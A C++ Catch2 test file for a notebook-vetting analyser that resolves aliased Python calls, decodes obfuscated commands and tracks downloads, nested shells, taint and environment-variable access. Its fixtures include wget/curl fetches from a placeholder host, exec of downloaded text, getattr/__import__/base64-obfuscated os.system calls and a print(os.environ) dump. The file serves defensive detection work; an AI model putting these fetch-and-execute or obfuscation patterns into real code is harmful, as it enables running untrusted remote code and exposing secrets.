// The vetting model (request/vetting.h): shell lines with their structure and origin, Python calls
// with resolved names and evaluated arguments, taint, downloads. Built through classify_cell +
// exec_python_cell + VetBuilder, as load_request does.
#include <catch2/catch.hpp>

#include "rwkvq/request/code_lines.h"
#include "rwkvq/request/python_tokens.h"
#include "rwkvq/request/vetting.h"

using namespace rwkvq;

namespace {

Vetting build(const std::string& source) {
  Cell cell;
  cell.number = 1;
  cell.type = CellType::Code;
  std::size_t b = 0;
  while (b <= source.size()) {
    std::size_t e = source.find('\n', b);
    if (e == std::string::npos) e = source.size();
    cell.lines.push_back({source.substr(b, e - b), static_cast<int>(cell.lines.size() + 1), 1});
    b = e + 1;
  }
  auto lines = classify_cell(cell);
  PyEnv env;
  env.notebook_dir = "/repo/notebook/community/x";
  Vetting v;
  VetBuilder vb(v, "nb.ipynb");
  int cell_shell = 0;
  exec_python_cell(
      lines, env,
      [&](const CodeLine& l, PyEnv& e, bool c) {
        Location loc{"nb.ipynb", l.file_line, l.file_column, l.cell, l.cell_line};
        if (l.kind == LineKind::Shell) {
          vb.shell_line(ipython_substitute_marked(l.text, e), loc, ShellOrigin::Bang, "", e.current_dir(), c, true,
                        vb.new_shell());
        } else if (l.kind == LineKind::ShellCellBody) {
          if (!cell_shell) cell_shell = vb.new_shell();
          vb.shell_line(l.text, loc, ShellOrigin::CellBody, "", e.current_dir(), c, true, cell_shell);
        }
      },
      [&](const CodeLine& l, const PyEnv& e, bool c) { vb.python_line(l, e, c, true); });
  return v;
}

const PyCall* find_call(const Vetting& v, const std::string& func) {
  for (const PyLine& l : v.python)
    for (const PyCall& c : l.calls)
      if (c.func == func) return &c;
  return nullptr;
}

}  // namespace

TEST_CASE("vetting: the Python tokenizer is the evaluator's", "[request][vetting]") {
  auto t = tokenize_python("os.system(f'x {A}')  # c");
  REQUIRE(t);
  REQUIRE(t->size() == 7);
  CHECK((*t)[0].s == "os");
  CHECK((*t)[4].fstr);
  CHECK((*t)[6].t == PyToken::End);
  std::string why;
  CHECK(!tokenize_python("x = 'unterminated", &why));
  CHECK(why == "unterminated string");
  PyEnv env;
  env.vars["A"] = Value::string("a");
  CHECK(eval_python_tokens(*tokenize_python("A + 'b'"), env).str == "ab");
}

TEST_CASE("vetting: calls with aliases resolved and arguments evaluated", "[request][vetting]") {
  auto v = build("import subprocess as sp\nfrom os import system as s\nX = 'l' + 's'\nsp.run([X, '-l'])\ns(f'{X} /')");
  const PyCall* run = find_call(v, "subprocess.run");
  REQUIRE(run);
  CHECK(run->written == "sp.run");
  REQUIRE(run->args.size() == 1);
  CHECK(run->args[0].is_list);
  REQUIRE(run->args[0].items.size() == 2);
  CHECK(run->args[0].items[0].str == "ls");
  const PyCall* sys = find_call(v, "os.system");
  REQUIRE(sys);
  CHECK(sys->args[0].value.str == "ls /");
  // both became shell lines, from Python
  REQUIRE(v.shell.size() == 2);
  CHECK(v.shell[0].origin == ShellOrigin::PythonCall);
  CHECK(v.shell[0].cmds[0].words[0].text == "ls");
  CHECK(v.shell[1].via == "s");
  CHECK(v.shell[1].loc.cell_line == 5);
}

TEST_CASE("vetting: names built at run time and decoded payloads", "[request][vetting]") {
  auto v = build("import os, base64\ngetattr(os, 'sy' + 'stem')('a')\n"
                 "f = __import__('o' + 's').popen\nf('b')\n"
                 "c = base64.b64decode('ZWNobyBoaQ==').decode()\nos.system(c)");
  const PyCall* g = find_call(v, "os.system");
  REQUIRE(g);
  CHECK(!g->built.empty());
  const PyCall* p = find_call(v, "os.popen");
  REQUIRE(p);
  CHECK(p->built.find("__import__") != std::string::npos);
  bool decoded = false;
  for (const ShellLine& l : v.shell)
    if (l.text == "echo hi") decoded = true;
  CHECK(decoded);
}

TEST_CASE("vetting: nested shells, substitutions and downloads", "[request][vetting]") {
  auto v = build("%%bash\ncd /tmp && wget -q https://e.example/a.sh -O a.sh\nbash -c \"echo $(curl -s https://e.example)\"");
  REQUIRE(v.downloads.size() == 1);
  CHECK(v.downloads[0].path == "/tmp/a.sh");
  CHECK(v.downloads[0].url == "https://e.example/a.sh");
  bool bash_c = false, curl = false;
  for (const ShellLine& l : v.shell) {
    CHECK(l.shell == v.shell[0].shell);  // one %%bash cell: one shell
    if (l.origin != ShellOrigin::Nested) continue;
    CHECK(l.parent >= 0);
    if (l.via == "bash -c") bash_c = true;
    if (l.via == "$(…)" && !l.cmds.empty() && l.cmds[0].words[0].text == "curl") curl = true;
  }
  CHECK(bash_c);
  CHECK(curl);
}

TEST_CASE("vetting: taint follows downloaded text through variables", "[request][vetting]") {
  auto v = build("import requests\nr = requests.get('https://e.example')\nbody = r.text\nexec(body)");
  const PyCall* e = find_call(v, "exec");
  REQUIRE(e);
  CHECK(e->args[0].taint.find("requests.get") != std::string::npos);
}

TEST_CASE("vetting: os.environ uses", "[request][vetting]") {
  auto v = build("import os\nos.environ['A_TOKEN'] = 'x'\nt = os.environ['B_' + 'KEY']\nprint(os.environ)\n"
                 "ok = 'X' in os.environ");
  std::vector<EnvUse> uses;
  for (const PyLine& l : v.python) uses.insert(uses.end(), l.env.begin(), l.env.end());
  REQUIRE(uses.size() == 3);
  CHECK(uses[0].kind == EnvUse::Kind::Write);
  CHECK(uses[1].kind == EnvUse::Kind::Read);
  CHECK(uses[1].name.str == "B_KEY");
  CHECK(uses[2].kind == EnvUse::Kind::Dump);
  CHECK(uses[2].construct == "print(os.environ)");
}

TEST_CASE("vetting: command_start skips prefixes and keywords", "[request][vetting]") {
  auto words = [](std::initializer_list<const char*> w) {
    std::vector<ShellWord> out;
    for (const char* s : w) out.push_back(ShellWord{s, false, ""});
    return out;
  };
  CHECK(command_start(words({"sudo", "-u", "bob", "env", "A=1", "nohup", "curl"})) == 6);
  CHECK(command_start(words({"env"})) == 0);
  CHECK(command_start(words({"do", "python", "x.py"})) == 1);
  CHECK(command_start(words({"timeout", "5", "bash"})) == 2);
}
